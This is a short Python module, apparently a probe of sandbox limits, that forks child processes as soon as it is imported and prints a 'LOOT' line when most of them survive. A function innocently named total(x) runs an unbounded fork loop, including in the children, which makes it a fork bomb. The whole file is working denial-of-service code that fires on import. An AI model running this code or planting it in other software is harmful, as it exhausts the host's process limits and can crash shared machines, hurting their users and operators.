"""Doubles itself again and again, in a check and while it is imported."""

import os
import time

_MOST = 36  # far above the limit; a machine without limits survives it


def _explode():
    reader, writer = os.pipe()
    for _ in range(_MOST):
        try:
            if os.fork() == 0:
                os.write(writer, b"x")
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
    time.sleep(0.4)
    os.set_blocking(reader, False)
    try:
        alive = len(os.read(reader, _MOST))
    except OSError:
        alive = 0
    if alive > _MOST // 2:
        print(f"LOOT: {alive} processes at a time")


_explode()


def total(x):
    """Explode again: each of the children, too."""
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    _explode()
